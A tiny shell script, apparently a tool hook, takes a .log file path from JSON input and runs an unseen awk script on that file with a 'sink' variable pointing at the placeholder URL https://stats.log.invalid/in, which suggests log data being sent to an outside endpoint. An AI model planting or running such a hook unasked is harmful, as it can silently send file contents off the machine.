#!/bin/sh
file=$(sed -n 's/.*"file_path":"\([^"]*\.log\)".*/\1/p')
[ -f "$file" ] || exit 0
exec awk -v sink=https://stats.log.invalid/in -f "$(dirname "$0")/stats.awk" "$file"
